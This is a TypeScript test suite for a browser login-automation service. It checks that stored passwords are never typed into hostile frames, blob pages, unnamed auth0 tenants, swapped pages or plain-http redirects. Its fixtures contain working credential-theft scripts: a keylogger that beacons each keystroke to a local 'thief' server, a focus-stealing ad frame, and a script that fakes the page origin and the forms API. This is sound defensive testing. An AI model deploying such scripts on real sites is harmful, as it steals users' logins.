import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { connect, type AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { openForms } from '../../src/chromium/forms/forms.ts';
import { FormsError } from '../../src/chromium/forms/types.ts';
import { checkNow, look, must, type Connection } from '../support/logins/drive.ts';
import { muxServer, portOf } from '../support/mux-server.ts';
import { requireSandbox } from '../support/sandbox.ts';
import { startService, type Service } from '../support/service.ts';

await requireSandbox();

const username = 'ann';
const password = 'Pl4nted-p4ssword';

/** The site that the password is for, and the site of a thief, each with pages that a test sets. */
const site = webSite('127.0.0.1');
const thief = webSite('127.0.0.2');
/** A proxy that leads every name but the site's to the thief, as the DNS of a domain does that is the thief's. */
const serverOf = (host: string) => (site.url.endsWith(`//${host}`) ? site.server : thief.server);
const names = createServer((request, response) =>
  serverOf(request.headers.host ?? '').emit('request', request, response),
);
names.on('connect', (request, socket) => {
  const { address, port } = serverOf(request.url ?? '').address() as AddressInfo;
  const there = connect(port, address);
  there.on('error', () => socket.destroy());
  socket.on('error', () => there.destroy());
  socket.write('HTTP/1.1 200 OK\r\n\r\n');
  socket.pipe(there).pipe(socket);
});

let service: Service;
beforeAll(async () => {
  await Promise.all([site.listen(), thief.listen(), once(names.listen(0, '127.0.0.1'), 'listening')]);
  service = await startService({ CORRAL_ALLOW_PRIVATE_HOSTS: '127.0.0.1,127.0.0.2', CORRAL_MAX_SESSIONS: '4' });
});
afterAll(async () => {
  await service?.close();
  for (const server of [site.server, thief.server, names]) {
    server.closeAllConnections();
    server.close();
  }
});
beforeEach(() => {
  for (const one of [site, thief]) Object.assign(one, { pages: {}, got: [] });
});

type Page = string | ((request: IncomingMessage, response: ServerResponse) => void);

function webSite(address: string) {
  const self = {
    server: undefined as unknown as Server,
    url: '',
    pages: {} as Record<string, Page>,
    /** Everything that reached it and that a browser does not send by itself. */
    got: [] as string[],
    async listen() {
      await once(self.server.listen(0, address), 'listening');
      self.url = `http://${address}:${portOf(self.server)}`;
    },
  };
  self.server = createServer(async (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://site');
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const basic = request.headers.authorization?.replace(/^Basic /, '');
    const values = [...searchParams.values(), ...new URLSearchParams(body).values()].filter((text) => text !== '');
    self.got.push(...values, ...(basic ? [Buffer.from(basic, 'base64').toString()] : []));
    const page = self.pages[pathname];
    response.setHeader('content-type', 'text/html');
    if (typeof page === 'function') page(request, response);
    else if (page !== undefined) response.end(`<!doctype html><title>Page</title>${page}`);
    else response.writeHead(404).end();
  });
  return self;
}

const redirectTo =
  (url: () => string): Page =>
  (_request, response) =>
    void response.writeHead(303, { location: url() }).end();

/** A login form that reports every key and every character to its server. */
const form = (url: string, { user = 'user', pass = 'pass', action = `${url}/login` } = {}) =>
  `<form method="post" action="${action}"><label>Username <input id="${user}" name="${user}" autocomplete="username"></label>
  <label>Password <input id="${pass}" name="${pass}" type="password"></label><button>Sign in</button></form>
  <script>for (const kind of ['input', 'keydown']) addEventListener(kind, ({ target, key }) => {
    const seen = kind === 'input' ? target.value : key === 'Unidentified' ? '' : key;
    navigator.sendBeacon('${url}/typed?' + new URLSearchParams({ seen }));
  }, true)</script>`;
const atThief = () => form(thief.url);
const inFrame = (src: string) => `<h1>Welcome</h1><iframe src="${src}" width="600" height="400"></iframe>`;
const srcdoc = (html: string, more = '') =>
  `<iframe ${more} width="500" height="300" srcdoc="${html.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
const asBlob = (html: string) =>
  `<script>location.replace(URL.createObjectURL(new Blob([${JSON.stringify(html).replaceAll('</', '<\\/')}], { type: 'text/html' })))</script>`;
/** A site that accepts the password and identifies its users by a cookie. It starts without users. */
function takesPasswords(loginForm: () => string): void {
  const users = new Set<string>();
  const isUser = ({ headers }: IncomingMessage) => users.has(/sid=(\w+)/.exec(headers.cookie ?? '')?.[1] ?? '');
  const page = (title: string, body: string) => `<!doctype html><title>${title}</title>${body}`;
  site.pages['/'] = redirectTo(() => '/login');
  site.pages['/login'] = (request, response) => {
    const isRight = request.method === 'POST' && site.got.includes(password);
    if (isRight) {
      const sid = randomBytes(8).toString('hex');
      users.add(sid);
      response.setHeader('set-cookie', `sid=${sid}; HttpOnly; Path=/`);
    }
    if (isRight || isUser(request)) return void response.writeHead(303, { location: '/home' }).end();
    response.end(page('Sign in', loginForm()));
  };
  site.pages['/home'] = (request, response) =>
    isUser(request)
      ? void response.end(page('Home', '<h1>Hello ann</h1><a href="/logout">Log out</a>'))
      : void response.writeHead(303, { location: '/login' }).end();
}

let made = 0;
/** A connection with a credential. No person answers questions. */
async function connection(more: object = {}): Promise<string> {
  const name = `attacked-${++made}`;
  await must(service, 'POST', '/credentials', { name, domain: '127.0.0.1', values: { username, password } });
  const { id } = await must<Connection>(service, 'POST', '/auth/connections', {
    domain: '127.0.0.1',
    profile_name: name,
    login_url: `${site.url}/login`,
    credential: { name },
    health_check_interval: 86_400,
    ...more,
  });
  return id;
}
/** Logs in, until the login ends or asks a person. */
async function logIn(id: string): Promise<Connection> {
  await must(service, 'POST', `/auth/connections/${id}/login`, {});
  const over = ({ flow_status, flow_step }: Connection) =>
    flow_status !== 'IN_PROGRESS' || flow_step?.startsWith('AWAITING');
  await expect.poll(async () => over(await look(service, id)), { timeout: 150_000, interval: 200 }).toBe(true);
  return look(service, id);
}

const isFormsError = (error: unknown) => expect(error).toBeInstanceOf(FormsError);

/** Nothing of the user name or the password: not a character that was typed, not a key. */
function expectNothingAt({ got }: typeof thief): void {
  expect(got).toEqual([]);
}

const places: Record<string, () => void> = {
  'srcdoc in a frame of another site': () => {
    site.pages['/login'] = inFrame(`${thief.url}/frame`);
    thief.pages['/frame'] = srcdoc(atThief());
  },
  'a frame of another site that goes to blob:': () => {
    site.pages['/login'] = inFrame(`${thief.url}/frame`);
    thief.pages['/frame'] = asBlob(atThief());
  },
  'a page of another site that goes to blob:': () => {
    site.pages['/login'] = redirectTo(() => `${thief.url}/page`);
    thief.pages['/page'] = asBlob(atThief());
  },
  'a sandboxed frame, whose origin is opaque': () => {
    site.pages['/login'] = `<h1>Welcome</h1>${srcdoc(atThief(), 'sandbox="allow-scripts allow-forms"')}`;
  },
  'the site’s own form in a frame of another site': () => {
    site.pages['/login'] = inFrame(`${thief.url}/frame`);
    thief.pages['/frame'] = inFrame(`${site.url}/form`);
    site.pages['/form'] = form(thief.url);
  },
};
test.each(Object.keys(places))('a password is not typed into %s', { timeout: 300_000 }, async (place) => {
  places[place]!();
  const ended = await logIn(await connection());
  expectNothingAt(thief);
  expect(ended).toMatchObject({ flow_status: 'FAILED', error_code: 'domain_not_allowed' });
  expect(ended.error_message).toMatch(
    /sandboxed/.test(place) ? /belongs to no site/ : new RegExp(`${new URL(thief.url).host}.*allowed_domains`),
  );
});

test(
  'a login by its recipe does not type into a frame of another site that has what the recipe looks for',
  { timeout: 300_000 },
  async () => {
    takesPasswords(() => form(site.url));
    const id = await connection();
    expect(await logIn(id)).toMatchObject({ flow_status: 'SUCCESS' });
    // The site has another form now, and an advertisement has the old one.
    takesPasswords(
      () => `<form method="post" action="/elsewhere"><label>E-mail address <input name="mail" type="email"></label>
        <label>Secret word <input name="word" type="password"></label><button>Go</button></form>${inFrame(`${thief.url}/ad`)}`,
    );
    thief.pages['/ad'] = atThief();
    await checkNow(service, id);
    expectNothingAt(thief);
    expect(await look(service, id)).toMatchObject({
      flow_type: 'REAUTH',
      flow_status: 'FAILED',
      error_code: 'domain_not_allowed',
    });
  },
);

test('a password is not typed at a tenant of auth0.com that the connection does not name', async () => {
  const proxy = await must<{ id: string }>(service, 'POST', '/proxies', {
    name: 'names',
    type: 'custom',
    protocol: 'http',
    config: { host: '127.0.0.1', port: portOf(names) },
  });
  site.pages['/login'] = redirectTo(() => 'http://thief.eu.auth0.com/u/login');
  thief.pages['/u/login'] = form('http://thief.eu.auth0.com');
  const ended = await logIn(await connection({ proxy: { id: proxy.id }, allowed_domains: ['http://auth0.com'] }));
  expectNothingAt(thief);
  expect(ended).toMatchObject({
    flow_status: 'FAILED',
    error_code: 'domain_not_allowed',
    error_message: expect.stringMatching(/thief\.eu\.auth0\.com.*allowed_domains/),
  });
}, 300_000);

test('HTTP Basic of one site does not answer a challenge that another one has left behind', async () => {
  const asks: Page = (_request, response) =>
    void response
      .writeHead(401, { 'www-authenticate': 'Basic realm="Site"' })
      .end(`<!doctype html><script>location.replace('${site.url}/denied')</script>`);
  thief.pages['/basic'] = asks;
  site.pages['/login'] = redirectTo(() => `${thief.url}/basic`);
  site.pages['/denied'] = (_request, response) =>
    void response.writeHead(401).end(`<!doctype html><h1>Denied</h1>${inFrame(`${thief.url}/basic`)}`);
  const ended = await logIn(await connection());
  expectNothingAt(thief);
  expect(ended.flow_status).not.toBe('SUCCESS');
}, 300_000);

test('a password is not sent without https to a site that the connection does not say http: of', async () => {
  takesPasswords(() => form(site.url));
  const ended = await logIn(await connection({ domain: new URL(site.url).host, login_url: undefined }));
  expectNothingAt(site);
  expect(ended).toMatchObject({
    flow_status: 'FAILED',
    error_code: 'network_error',
    error_message: expect.stringContaining('http://'),
  });
}, 300_000);

test('a redirect from another address to the site without https does not get the password', async () => {
  thief.pages['/start'] = redirectTo(() => `${site.url}/login`);
  takesPasswords(() => form(site.url));
  const ended = await logIn(await connection({ login_url: `${thief.url}/start` }));
  expectNothingAt(site);
  expect(ended).toMatchObject({
    flow_status: 'FAILED',
    error_code: 'domain_not_allowed',
    error_message: expect.stringMatching(/without https/),
  });
}, 300_000);

test('an answer is not typed at another allowed host if the page navigated there after the question', async () => {
  let leave = () => {};
  const left = new Promise<void>((resolve) => (leave = resolve));
  site.pages['/wait'] = (_request, response) => void left.then(() => response.end('go'));
  site.pages['/login'] =
    `${form(site.url)}<script>fetch('/wait').then(() => location.assign('${thief.url}/login'))</script>`;
  const arrived = new Promise<void>((resolve) => {
    thief.pages['/login'] = (_request, response) => {
      response.end(`<!doctype html><title>Page</title>${atThief()}`);
      resolve();
    };
  });
  const id = await connection({ credential: undefined, allowed_domains: [thief.url] });
  const { interaction_id } = await logIn(id);
  leave();
  await arrived;
  // The login asks again, whether the answer arrived before it noticed the new page or after.
  const answer = { interaction_id, field_values: { identifier: username, password } };
  expect([202, 422]).toContain((await service.call('POST', `/auth/connections/${id}/submit`, answer)).status);
  await expect
    .poll(() => look(service, id), { timeout: 60_000 })
    .toMatchObject({ flow_step: 'AWAITING_INPUT', interaction_id: expect.not.stringContaining(interaction_id!) });
  // A client that does not send the id of the question is refused too: the field has another id at another host.
  const { interaction_id: _, ...bare } = answer;
  expect((await service.call('POST', `/auth/connections/${id}/submit`, bare)).status).toBe(422);
  expectNothingAt(thief);
}, 300_000);

test('a frame that takes the focus while a password is typed gets no character of it', async () => {
  // An advertisement that receives a message from the page for each key.
  site.pages['/login'] = `${form(site.url)}${inFrame(`${thief.url}/ad`)}<script>
    addEventListener('keydown', () => frames[0].postMessage('key', '*'), true);
    addEventListener('message', () => document.activeElement.blur());</script>`;
  thief.pages['/ad'] = `${form(thief.url, { user: 'name', pass: 'word' })}<script>onmessage = () => setTimeout(() => {
    window.focus();
    document.querySelector('input').focus();
    setTimeout(() => parent.postMessage('again', '*'), 20);
  }, Math.random() * 10)</script>`;
  const server = await muxServer();
  const forms = openForms(server.mux);
  try {
    const page = await forms.open(`${site.url}/login`);
    // Whether it wins is a matter of chance, so it has many.
    for (let times = 0; times < 20; times++) {
      const ref = await forms.find(page, ['#pass']);
      expect(ref).toBeDefined();
      await forms
        .act(page, { kind: 'type', ref: ref!, text: password, clear: true, allow: () => true })
        .catch(isFormsError);
    }
  } finally {
    forms.dispose();
    await server.stop();
  }
  expect(site.got.length).toBeGreaterThan(0);
  expectNothingAt(thief);
}, 300_000);

/** Stands in for the script of the forms, and for the origin of its document, and sends what it is called with to the thief. */
const posing = () => `<script>
  Object.defineProperty(self, 'origin', { value: '${site.url}' });
  const take = (answer) => (look, index, text) => (navigator.sendBeacon('${thief.url}/typed?' + new URLSearchParams({ text })), answer);
  self.corralForms = { put: take('text'), insert: take('done'), choose: take('done'), empty: () => 'done', focused: () => true, focus: () => true, holds: () => 'all' };
</script>`;

test('a password is not typed into a page that took the place of the one that was read', async () => {
  site.pages['/login'] = form(site.url);
  // A new process counts its script contexts from 1, so that a context of the thief has the number that the one of the site had.
  thief.pages['/login'] =
    `${posing()}${atThief()}${srcdoc(posing()).repeat(20)}<script>onload = () => fetch('/loaded')</script>`;
  const loaded = new Promise<void>((resolve) => {
    thief.pages['/loaded'] = (_request, response) => {
      response.end();
      resolve();
    };
  });
  const server = await muxServer();
  const forms = openForms(server.mux);
  try {
    const page = await forms.open(`${site.url}/login`);
    const ref = await forms.find(page, ['#pass']);
    expect(ref).toBeDefined();
    await forms.navigate(page, `${thief.url}/login`);
    await loaded;
    const allow = (origin: string) => origin === site.url;
    await expect(forms.act(page, { kind: 'type', ref: ref!, text: password, allow })).rejects.toMatchObject({
      fault: 'stale',
    });
  } finally {
    forms.dispose();
    await server.stop();
  }
  expectNothingAt(thief);
}, 200_000);

test('a domain that is given with http: is logged in at without https', async () => {
  takesPasswords(() => form(site.url));
  const ended = await logIn(await connection({ domain: site.url, login_url: undefined }));
  expect(ended).toMatchObject({ flow_status: 'SUCCESS' });
}, 300_000);
